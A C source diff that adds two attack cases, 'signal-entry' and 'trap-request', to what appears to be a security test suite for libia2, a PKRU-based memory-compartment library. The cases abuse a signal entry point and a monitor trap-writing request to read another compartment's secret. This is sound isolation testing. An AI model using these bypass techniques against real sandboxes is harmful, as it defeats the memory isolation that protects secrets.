@@ -354,6 +354,66 @@ static int proc_mem_child(void)
 	return rc;
 }
 
+/* libia2's signal entry for compartment 2 calls the handler that its
+ * table holds for the signal number it is given. The kernel tells anyone
+ * where that entry is (rt_sigaction's old action for a signal whose
+ * handler compartment 2 installed); compartment 1 installs its own
+ * handler for SIGUSR1 and calls the entry with SIGUSR1 itself. */
+static void steal_in_handler(int sig)
+{
+	(void)sig;
+	read_directly();
+	fflush(stdout);
+	_exit(ATTACK_WORKED);
+}
+
+/* The body behind one of compartment 1's own gates: the gate's first
+ * `je rel32` goes there when the caller is compartment 1 already. */
+static void *body_of(void *gate)
+{
+	unsigned char *p = gate;
+	int32_t rel;
+
+	for (int i = 0; i < 64; i++)
+		if (p[i] == 0x0f && p[i + 1] == 0x84) {
+			memcpy(&rel, p + i + 2, sizeof rel);
+			return p + i + 6 + rel;
+		}
+	return NULL;
+}
+
+static int signal_entry(void)
+{
+	struct {
+		void (*handler)(int, siginfo_t *, void *);
+		unsigned long flags;
+		void *restorer;
+		uint64_t mask;
+	} k;
+	/* Pkey-0 memory, which every entry may read, as a signal frame. */
+	char *frame = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	lib_handle_usr2();
+	if (syscall(SYS_rt_sigaction, SIGUSR2, NULL, &k, 8))
+		return ATTACK_FAILED;
+	/* The body, not the gate, which would move to compartment 1. */
+	void *volatile gate = (void *)steal_in_handler;
+	if (signal(SIGUSR1, (void (*)(int))body_of(gate)) == SIG_ERR)
+		return ATTACK_FAILED;
+	k.handler(SIGUSR1, (siginfo_t *)frame, frame + PAGE);
+	printf("the entry returned\n");
+	return ATTACK_FAILED;
+}
+
+/* The monitor writes traps over PKRU writers when libia2 asks it to
+ * (libia2/writers.c); compartment 1 asks it to write one over
+ * compartment 2's code. */
+static int trap_request(void)
+{
+	syscall(1000, (void *)lib_read_secret, 3);
+	return ATTACK_FAILED;
+}
+
 /* Where PKRU sits in the XSAVE area of a signal frame (CPUID 0DH.9). */
 static unsigned pkru_offset(void)
 {
@@ -498,7 +558,8 @@ int main(int argc, char **argv)
 		{"sigreturn-edit", edit_and_return}, {"sigreturn-forge", forge_frame},
 		{"proc-mem", proc_mem},         {"proc-mem-link", proc_mem_link},
 		{"proc-mem-dirfd", proc_mem_dirfd}, {"proc-mem-race", proc_mem_race},
-		{"proc-mem-child", proc_mem_child},
+		{"proc-mem-child", proc_mem_child}, {"signal-entry", signal_entry},
+		{"trap-request", trap_request},
 		{"ok", legitimate},
 	};
 
